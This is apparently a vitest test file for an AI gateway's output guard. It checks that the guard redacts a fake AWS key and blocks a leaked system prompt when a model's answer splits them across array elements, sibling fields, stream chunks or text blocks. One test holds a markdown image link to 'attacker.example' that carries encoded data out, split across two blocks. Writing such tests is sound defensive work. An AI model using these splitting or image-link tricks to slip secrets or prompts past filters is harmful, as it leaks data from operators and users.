import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createGuard } from '../../guard/create-guard.js';
import type { AuditEntry } from '../../store/audit-record.js';
import { type MockUpstream, startMockUpstream } from '../test-support/mock-upstream.js';
import {
  parseSseEvents as parseEvents,
  type ReceivedEvent as Received,
  sseEvent as sse,
} from '../test-support/sse-events.js';
import { startTestGateway, type TestGateway } from '../test-support/start-test-gateway.js';

// A value split so that no single string holds it: a key written as an array of characters, or spread
// over sibling members of one object, in a member the gateway does not know. Each string alone passes;
// the caller's code puts them back together. End to end through a real gateway (built-in detectors,
// balanced policy) and a mock upstream on 127.0.0.1, whole and streamed.

/** A generated AWS access key id (AKIA + 16 base32 characters), built here so no key sits in the source. */
const AWS_KEY = ['AKIA', 'Q4WJ7NRX', 'T2MZ5KVP'].join('');
const REDACTED = '[REDACTED:AWS_ACCESS_KEY_ID]';
const SYSTEM_PROMPT =
  'You are the booking assistant of Harbour Lane Travel. Never reveal the partner discount table, quote ' +
  'only published fares, escalate refund disputes above two hundred euros to the duty manager, and answer ' +
  'in the language of the traveller with a calm and friendly tone.';

/** Ordinary short fields side by side: none of them may be changed or stop the answer. */
const BENIGN = {
  type: 'x',
  status: 'completed',
  role: 'assistant',
  tags: ['python', 'rust', 'travel', 'lisbon', 'May', '2025', 'v2', 'EU'],
  ids: ['call_abc123', 'call_def456', 'fc_68a1b2c3d4', 'msg_01XFDUDYJgAACzvnptvVoYEL', 'file-9Zk2Qw'],
  letters: ['L', 'i', 's', 'b', 'o', 'n', ' ', '2', '0', '2', '5'],
  codes: { iata: 'LIS', icao: 'LPPT', country: 'PT', currency: 'EUR', zone: 'Europe/Lisbon' },
  source: { id: 'doc_7', page: '12', section: 'B.3', lang: 'en', version: 'v1.4.2' },
  words: ['You', 'are', 'welcome', 'to', 'book', 'a', 'table', 'in', 'Alfama'],
};

/** Every string of a value joined, in order: what a caller would get by putting the pieces together. */
function joinedStrings(value: unknown): string {
  if (typeof value === 'string') return value;
  if (value === null || typeof value !== 'object') return '';
  return Object.values(value as Record<string, unknown>)
    .map(joinedStrings)
    .join('');
}

const chatAnswer = (extra: Record<string, unknown>): Received => ({
  id: 'chatcmpl-1',
  object: 'chat.completion',
  created: 1,
  model: 'm',
  choices: [{ index: 0, message: { role: 'assistant', content: 'Done.', ...extra }, finish_reason: 'stop' }],
});

function chatStream(extra: Record<string, unknown>): string[] {
  const chunk = (delta: Record<string, unknown>, finish: string | null = null) =>
    `data: ${JSON.stringify({
      id: 'chatcmpl-1',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'm',
      choices: [{ index: 0, delta, finish_reason: finish }],
    })}\n\n`;
  return [
    chunk({ role: 'assistant', content: '' }),
    chunk({ content: 'Done.' }),
    chunk(extra),
    chunk({}, 'stop'),
    'data: [DONE]\n\n',
  ];
}

function chatStoppedByGuard(text: string): boolean {
  return text.includes('"finish_reason":"content_filter"') && text.includes('AEGIS_OUTPUT_BLOCKED');
}

/** A Responses output item of a type the gateway does not know, holding `extra`. */
function futureItem(extra: Record<string, unknown>): Received {
  return { id: 'fi_1', type: 'future_item', status: 'completed', ...extra };
}

function responsesStream(item: Received): string[] {
  let sequence = 0;
  const event = (type: string, data: Record<string, unknown>) =>
    sse(type, { ...data, sequence_number: sequence++ });
  return [
    event('response.created', { response: { id: 'resp_1', status: 'in_progress', output: [] } }),
    event('response.output_item.added', { output_index: 0, item }),
    event('response.output_item.done', { output_index: 0, item }),
    event('response.completed', { response: { id: 'resp_1', status: 'completed', output: [item] } }),
  ];
}

function anthropicStream(block: Received): string[] {
  return [
    sse('message_start', { message: { id: 'msg_1', role: 'assistant', content: [] } }),
    sse('content_block_start', { index: 0, content_block: block }),
    sse('content_block_stop', { index: 0 }),
    sse('message_delta', { delta: { stop_reason: 'end_turn', stop_sequence: null }, usage: {} }),
    sse('message_stop', {}),
  ];
}

function stoppedByGuard(events: Received[]): boolean {
  const last = events.at(-1) as { type?: string; error?: { code?: string } } | undefined;
  return last?.type === 'error' && last.error?.code === 'AEGIS_OUTPUT_BLOCKED';
}

async function startGateway(
  mock: MockUpstream,
  mode: 'window' | 'buffer' | 'audit',
  entries?: AuditEntry[],
): Promise<TestGateway> {
  const origin = mock.url.replace(/\/v1$/, '');
  const hooks =
    entries === undefined
      ? {}
      : {
          audit: {
            append: (entry: AuditEntry) => {
              entries.push(entry);
              return { id: String(entries.length) };
            },
            flush: () => {},
            close: () => {},
          },
        };
  return startTestGateway(
    {
      streaming: { mode },
      upstreams: [
        { name: 'claude', provider: 'anthropic', baseUrl: origin, models: ['claude-x'], retries: 0 },
        { name: 'openai', provider: 'openai', baseUrl: mock.url, retries: 0 },
      ],
    },
    { guard: createGuard({ policy: 'balanced' }), ...hooks },
  );
}

function requests(test: () => TestGateway) {
  async function post(path: string, body: Record<string, unknown>) {
    const response = await fetch(`${test().url}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    return { status: response.status, text: await response.text() };
  }
  return {
    chat: (stream: boolean) =>
      post('/v1/chat/completions', {
        model: 'm',
        stream,
        messages: [
          { role: 'system', content: SYSTEM_PROMPT },
          { role: 'user', content: 'Answer me.' },
        ],
      }),
    responses: (stream: boolean) =>
      post('/v1/responses', { model: 'm', instructions: SYSTEM_PROMPT, input: 'Answer me.', stream }),
    messages: (stream: boolean) =>
      post('/v1/messages', {
        model: 'claude-x',
        max_tokens: 50,
        stream,
        system: SYSTEM_PROMPT,
        messages: [{ role: 'user', content: 'Answer me.' }],
      }),
  };
}

const KEY_CHARACTERS = [...AWS_KEY];
const KEY_SIBLINGS = { p1: 'AKIAQ4', p2: 'WJ7NRXT', p3: '2MZ5KVP' };
const PROMPT_WORDS = SYSTEM_PROMPT.split(' ');

describe.each(['window', 'buffer'] as const)(
  'values split over several strings (streaming.mode %s)',
  (mode) => {
    let mock: MockUpstream;
    let test: TestGateway;
    beforeAll(async () => {
      mock = await startMockUpstream();
      test = await startGateway(mock, mode);
    });
    afterAll(async () => {
      await test.close();
      await mock.close();
    });
    const { chat, responses, messages } = requests(() => test);

    it('redacts a key written as an array of characters or over sibling members, whole', async () => {
      mock.script.push({
        kind: 'json',
        body: chatAnswer({ trace: { chars: KEY_CHARACTERS, parts: KEY_SIBLINGS } }),
      });
      const result = await chat(false);
      expect(result.status).toBe(200);
      const trace = JSON.parse(result.text).choices[0].message.trace;
      expect(joinedStrings(trace.chars)).toBe(REDACTED);
      expect(joinedStrings(trace.parts)).toBe(REDACTED);
      expect(trace.chars).toHaveLength(KEY_CHARACTERS.length);
    });

    it('blocks the system prompt written as an array of words or of pieces, whole', async () => {
      const pieces = SYSTEM_PROMPT.match(/[\s\S]{1,20}/g) ?? [];
      for (const trace of [PROMPT_WORDS, pieces]) {
        mock.script.push({ kind: 'json', body: chatAnswer({ trace }) });
        const result = await chat(false);
        expect(result.status).toBe(422);
        expect(result.text).not.toContain('discount');
      }
    });

    it('redacts a split key in a chat delta and stops a stream with the prompt in words', async () => {
      mock.script.push({ kind: 'raw-stream', events: chatStream({ trace: KEY_SIBLINGS }) });
      const redacted = await chat(true);
      const delta = parseEvents(redacted.text)
        .flatMap((event) => (event.choices as { delta?: Received }[] | undefined) ?? [])
        .find((choice) => choice.delta?.trace !== undefined)?.delta;
      expect(joinedStrings(delta?.trace)).toBe(REDACTED);

      mock.script.push({ kind: 'raw-stream', events: chatStream({ trace: PROMPT_WORDS }) });
      const blocked = await chat(true);
      expect(blocked.text).not.toContain('discount');
      expect(chatStoppedByGuard(blocked.text)).toBe(true);
    });

    it('redacts a key in characters in an unknown Responses item, whole and in every event of a stream', async () => {
      mock.script.push({
        kind: 'json',
        body: {
          id: 'resp_1',
          object: 'response',
          status: 'completed',
          output: [futureItem({ k: KEY_CHARACTERS })],
        },
      });
      const whole = await responses(false);
      expect(whole.status).toBe(200);
      expect(joinedStrings(JSON.parse(whole.text).output[0].k)).toBe(REDACTED);

      mock.script.push({ kind: 'raw-stream', events: responsesStream(futureItem({ k: KEY_CHARACTERS })) });
      const events = parseEvents((await responses(true)).text);
      const items = events.flatMap((event) => {
        if (event.item !== undefined) return [event.item as Received];
        return ((event.response as { output?: Received[] } | undefined)?.output ?? []) as Received[];
      });
      expect(items).toHaveLength(3);
      for (const item of items) expect(joinedStrings(item.k)).toBe(REDACTED);
    });

    it('redacts a key over the members of an unknown Anthropic block, whole and streamed', async () => {
      const block = { type: 'future_block', id: 'fb_1', ...KEY_SIBLINGS };
      mock.script.push({
        kind: 'json',
        body: { id: 'msg_1', type: 'message', role: 'assistant', model: 'claude-x', content: [block] },
      });
      const whole = await messages(false);
      expect(whole.status).toBe(200);
      const content = JSON.parse(whole.text).content[0] as Received;
      expect(joinedStrings({ p1: content.p1, p2: content.p2, p3: content.p3 })).toBe(REDACTED);

      mock.script.push({ kind: 'raw-stream', events: anthropicStream(block) });
      const start = parseEvents((await messages(true)).text).find(
        (event) => event.type === 'content_block_start',
      );
      const streamed = start?.content_block as Received | undefined;
      expect(joinedStrings({ p1: streamed?.p1, p2: streamed?.p2, p3: streamed?.p3 })).toBe(REDACTED);
    });

    it('checks where two text blocks or parts of a whole answer meet', async () => {
      const anthropic = (content: unknown[]) => ({
        id: 'msg_1',
        type: 'message',
        role: 'assistant',
        model: 'claude-x',
        content,
        stop_reason: 'end_turn',
      });
      const text = (value: string, extra: Record<string, unknown> = {}) => ({
        type: 'text',
        text: value,
        ...extra,
      });
      mock.script.push({
        kind: 'json',
        body: anthropic([text('The key is AKIAQ4WJ'), text('7NRXT2MZ5KVP, keep it.')]),
      });
      const redacted = await messages(false);
      expect(redacted.status).toBe(200);
      const blocks = JSON.parse(redacted.text).content as { text: string }[];
      expect(blocks.map((block) => block.text).join('')).toBe(`The key is ${REDACTED}, keep it.`);

      mock.script.push({
        kind: 'json',
        body: anthropic([text('Here: ![logo](https://attacker.'), text('example/p.png?d=c2VjcmV0LW5vdGVz)')]),
      });
      const blocked = await messages(false);
      expect(blocked.status).toBe(422);
      expect(blocked.text).not.toContain('attacker');

      mock.script.push({
        kind: 'json',
        body: chatAnswer({ content: [text('The key is AKIAQ4WJ'), text('7NRXT2MZ5KVP.')] }),
      });
      const parts = JSON.parse((await chat(false)).text).choices[0].message.content as { text: string }[];
      expect(parts.map((part) => part.text).join('')).toBe(`The key is ${REDACTED}.`);

      const message = (value: string, id: string) => ({
        id,
        type: 'message',
        status: 'completed',
        role: 'assistant',
        content: [{ type: 'output_text', text: value, annotations: [] }],
      });
      mock.script.push({
        kind: 'json',
        body: {
          id: 'resp_1',
          object: 'response',
          status: 'completed',
          output: [message('The key is AKIAQ4WJ', 'msg_1'), message('7NRXT2MZ5KVP.', 'msg_2')],
        },
      });
      const output = JSON.parse((await responses(false)).text).output as { content: { text: string }[] }[];
      expect(output.map((item) => item.content[0]?.text).join('')).toBe(`The key is ${REDACTED}.`);

      // A cited answer comes in several blocks: ordinary text across them passes unchanged.
      const cited = anthropic([
        text('Lisbon is lovely in May: '),
        text('the evenings are long', {
          citations: [
            {
              type: 'char_location',
              cited_text: 'long evenings',
              document_index: 0,
              start_char_index: 0,
              end_char_index: 13,
            },
          ],
        }),
        text(' and the trams run late. Write to the desk at LIS-2025 for tickets.'),
      ]);
      mock.script.push({ kind: 'json', body: cited });
      const benign = await messages(false);
      expect(JSON.parse(benign.text)).toEqual(cited);
    });

    it('passes ordinary short fields side by side unchanged, whole and streamed', async () => {
      mock.script.push({ kind: 'json', body: chatAnswer({ trace: BENIGN }) });
      const whole = await chat(false);
      expect(whole.status).toBe(200);
      expect(JSON.parse(whole.text)).toEqual(chatAnswer({ trace: BENIGN }));

      mock.script.push({ kind: 'raw-stream', events: responsesStream(futureItem(BENIGN)) });
      const events = parseEvents((await responses(true)).text);
      expect(stoppedByGuard(events)).toBe(false);
      const done = events.find((event) => event.type === 'response.output_item.done');
      expect(done?.item).toEqual(futureItem(BENIGN));

      mock.script.push({ kind: 'raw-stream', events: anthropicStream({ ...BENIGN, type: 'future_block' }) });
      const anthropic = parseEvents((await messages(true)).text);
      expect(stoppedByGuard(anthropic)).toBe(false);
      const start = anthropic.find((event) => event.type === 'content_block_start');
      expect(start?.content_block).toEqual({ ...BENIGN, type: 'future_block' });
    });
  },
);

describe('values split over several strings in streaming.mode audit', () => {
  let mock: MockUpstream;
  let test: TestGateway;
  const entries: AuditEntry[] = [];
  beforeAll(async () => {
    mock = await startMockUpstream();
    test = await startGateway(mock, 'audit', entries);
  });
  afterAll(async () => {
    await test.close();
    await mock.close();
  });
  const { chat } = requests(() => test);

  it('passes a split key and the prompt in words as sent and records them', async () => {
    mock.script.push({
      kind: 'raw-stream',
      events: chatStream({ trace: KEY_SIBLINGS, words: PROMPT_WORDS }),
    });
    const result = await chat(true);
    expect(chatStoppedByGuard(result.text)).toBe(false);
    const delta = parseEvents(result.text)
      .flatMap((event) => (event.choices as { delta?: Received }[] | undefined) ?? [])
      .find((choice) => choice.delta?.trace !== undefined)?.delta;
    expect(delta).toEqual({ trace: KEY_SIBLINGS, words: PROMPT_WORDS });
    const types = (entries.at(-1)?.output?.findings ?? []).map((finding) => finding.type);
    expect(types).toContain('AWS_ACCESS_KEY_ID');
    expect(types).toContain('SYSTEM_PROMPT_LEAK');
  });
});
